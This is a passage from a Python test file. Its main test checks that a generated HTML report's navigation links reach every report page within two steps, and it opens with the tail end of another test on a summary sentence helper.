    sentence, section = yesterday(_days([*map(float, before), float(last)]), product())
    assert (said in sentence) if said else sentence == ""
    assert (section is not None) == bool(said)


def test_every_page_is_two_steps_away(report: Path) -> None:
    """Each page links the first page of each group, and the pages of its own."""
    first = re.findall(r'<nav aria-label="Groups".*?</nav>', (report / "index.html").read_text(), re.DOTALL)[0]
    groups = re.findall(r'href="(\w+\.html)"', first)
    assert len(groups) == len(GROUPS)
    reached = set(groups)
    for page in groups:
        own = re.findall(r'<nav aria-label="Pages".*?</nav>', (report / page).read_text(), re.DOTALL)[0]
        assert page in re.findall(r'href="(\w+\.html)"', own)
        reached |= set(re.findall(r'href="(\w+\.html)"', own))
    assert reached >= {f"{each.name}.html" for each in report_pages()} - {"digest.html", "features.html"}
